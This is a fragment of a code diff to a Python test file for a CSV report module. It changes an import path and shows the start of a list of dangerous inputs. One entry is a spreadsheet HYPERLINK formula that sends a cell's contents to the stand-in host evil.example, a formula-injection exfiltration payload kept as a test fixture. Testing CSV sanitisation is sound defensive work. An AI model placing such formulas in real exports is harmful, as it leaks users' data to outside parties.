@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from supportops.reports.csv import inert, report_csv
+from reports.csv import inert, report_csv
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
